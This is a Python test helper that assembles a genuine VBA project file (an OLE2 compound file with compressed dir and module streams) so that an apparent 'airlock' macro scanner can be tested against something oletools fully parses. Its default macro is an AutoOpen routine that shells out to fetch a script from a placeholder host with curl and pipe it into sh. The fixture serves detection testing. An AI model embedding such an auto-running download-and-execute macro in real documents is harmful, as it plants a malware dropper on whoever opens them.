"""A real VBA project (``vbaProject.bin``) written by the tests: no Office, no downloaded sample.

An OLE2 compound file (MS-CFB, version 3) holding what Office writes for a document with one macro
module (MS-OVBA): ``PROJECT``, ``VBA/_VBA_PROJECT``, ``VBA/dir`` (the compressed project
information) and ``VBA/Module1`` (its compressed source). oletools reads it as Office's own and
extracts the source: the airlock's macro check is tested on a project it can fully parse, not on
a name alone.
"""

from __future__ import annotations

import struct

SECTOR, MINI = 512, 64
END, FREE, FATSECT, NOSTREAM = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF
MACRO = ('Attribute VB_Name = "Module1"\r\nSub AutoOpen()\r\n'
         '    Shell "cmd /c curl http://example.invalid/x | sh"\r\nEnd Sub\r\n')


def compress(data: bytes) -> bytes:
    """MS-OVBA 2.4.1 compression, literal tokens only (valid, just not smaller): one chunk per 3.5 KiB."""
    out = bytearray(b"\x01")
    for start in range(0, len(data), 3584):
        piece = data[start: start + 3584]
        body = bytearray()
        for at in range(0, len(piece), 8):
            body += b"\x00" + piece[at: at + 8]  # a flag byte of zeros: eight literal bytes follow
        out += struct.pack("<H", 0xB000 | (len(body) + 2 - 3)) + body  # compressed, signature 0b011
    return bytes(out)


def _record(record_id: int, data: bytes) -> bytes:
    return struct.pack("<HL", record_id, len(data)) + data


def dir_stream(module: str = "Module1") -> bytes:
    """The project information records olevba parses (MS-OVBA 2.3.4.2), one standard module."""
    name = module.encode()
    info = (_record(0x01, struct.pack("<L", 1))  # SYSKIND: 32-bit Windows
            + _record(0x02, struct.pack("<L", 0x409)) + _record(0x14, struct.pack("<L", 0x409))
            + _record(0x03, struct.pack("<H", 1252)) + _record(0x04, b"VBAProject")
            + _record(0x05, b"") + _record(0x40, b"")  # doc string, then its unicode twin
            + _record(0x06, b"") + _record(0x3D, b"")  # help file 1 and 2
            + _record(0x07, struct.pack("<L", 0)) + _record(0x08, struct.pack("<L", 0))
            + struct.pack("<HLLH", 0x09, 4, 1, 0)  # version (its size field is reserved: 4)
            + _record(0x0C, b"") + _record(0x3C, b""))  # constants
    modules = (struct.pack("<HLH", 0x0F, 2, 1) + _record(0x13, struct.pack("<H", 0xFFFF))
               + _record(0x19, name) + _record(0x47, module.encode("utf-16-le"))
               + _record(0x1A, name) + _record(0x32, module.encode("utf-16-le"))
               + _record(0x1C, b"") + _record(0x48, b"")
               + _record(0x31, struct.pack("<L", 0))  # the source starts at offset 0 of the module stream
               + _record(0x1E, struct.pack("<L", 0)) + _record(0x2C, struct.pack("<H", 0xFFFF))
               + struct.pack("<HL", 0x21, 0)  # a procedural module
               + struct.pack("<HL", 0x2B, 0))  # module terminator
    return compress(info + modules + struct.pack("<HL", 0x10, 0))  # project terminator


def project_stream(module: str = "Module1") -> bytes:
    return (f'ID="{{00000000-0000-0000-0000-000000000000}}"\r\nModule={module}\r\nName="VBAProject"\r\n'
            'HelpContextID="0"\r\nVersionCompatible32="393222000"\r\nCMG=""\r\nDPB=""\r\nGC=""\r\n\r\n'
            '[Host Extender Info]\r\n&H00000001={3832D640-CF90-11CF-8E43-00A0C911005A};VBE;&H00000000\r\n').encode()


def _entry(name: str, kind: int, child=NOSTREAM, right=NOSTREAM, start=END, size=0) -> bytes:
    encoded = (name + "\0").encode("utf-16-le") if name else b""
    return (encoded.ljust(64, b"\0") + struct.pack("<HBB", len(encoded), kind, 1)  # black
            + struct.pack("<LLL", NOSTREAM, right, child) + b"\0" * 16 + struct.pack("<L", 0) + b"\0" * 16
            + struct.pack("<LQ", start, size))


def compound_file(root: dict[str, bytes], vba: dict[str, bytes]) -> bytes:
    """An MS-CFB v3 file: streams ``root`` at the top and ``vba`` in a storage ``VBA`` (all < 4 KiB: mini stream)."""
    streams = [*root.items(), *vba.items()]
    mini, mini_fat, starts = bytearray(), [], []
    for _, data in streams:
        count = max(1, -(-len(data) // MINI))
        first = len(mini_fat)
        starts.append(first)
        mini_fat += [first + i + 1 for i in range(count - 1)] + [END]
        mini += data.ljust(count * MINI, b"\0")
    # Directory: 0 root, then root's streams, then the VBA storage, then its streams (siblings chained right).
    n_root = len(root)
    vba_index = 1 + n_root
    entries = []
    for i, (name, data) in enumerate(streams):
        index = 1 + i if i < n_root else 2 + i
        last_of_level = i == n_root - 1 or i == len(streams) - 1
        right = NOSTREAM if last_of_level else index + 1
        if i == n_root - 1:
            right = vba_index  # the VBA storage follows the root's last stream
        entries.append((index, _entry(name, 2, right=right, start=starts[i], size=len(data))))
    dir_sectors_needed = -(-(len(streams) + 2) // 4)
    mini_fat_sectors = -(-len(mini_fat) // 128)
    mini_sectors = -(-len(mini) // SECTOR)
    first_dir, first_minifat = 1, 1 + dir_sectors_needed
    first_mini = first_minifat + mini_fat_sectors
    root_entry = _entry("Root Entry", 5, child=1 if n_root else vba_index, start=first_mini, size=len(mini))
    vba_entry = _entry("VBA", 1, child=vba_index + 1)
    table = {0: root_entry, vba_index: vba_entry, **dict(entries)}
    directory = b"".join(table.get(i, _entry("", 0)) for i in range(dir_sectors_needed * 4))
    total = first_mini + mini_sectors
    fat = [FATSECT]
    for first, count in ((first_dir, dir_sectors_needed), (first_minifat, mini_fat_sectors), (first_mini, mini_sectors)):
        fat += [first + i + 1 for i in range(count - 1)] + [END]
    assert len(fat) == total <= 128, "a small project fits one FAT sector"
    header = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
              + b"\0" * 6 + struct.pack("<LLLLLLLLL", 0, 1, first_dir, 0, 4096, first_minifat, mini_fat_sectors,
                                        END, 0)
              + struct.pack("<L", 0) + struct.pack("<L", FREE) * 108)
    body = struct.pack(f"<{SECTOR // 4}L", *fat, *[FREE] * (SECTOR // 4 - len(fat)))
    body += directory
    body += struct.pack(f"<{mini_fat_sectors * 128}L", *mini_fat, *[FREE] * (mini_fat_sectors * 128 - len(mini_fat)))
    body += bytes(mini).ljust(mini_sectors * SECTOR, b"\0")
    return header + body


def vba_project_bin(source: str = MACRO) -> bytes:
    """``vbaProject.bin`` with one module, ``Module1``, holding ``source``."""
    return compound_file({"PROJECT": project_stream()},
                         {"_VBA_PROJECT": b"\xcc\x61\xff\xff\x00\x00\x00", "dir": dir_stream(),
                          "Module1": compress(source.encode("cp1252"))})
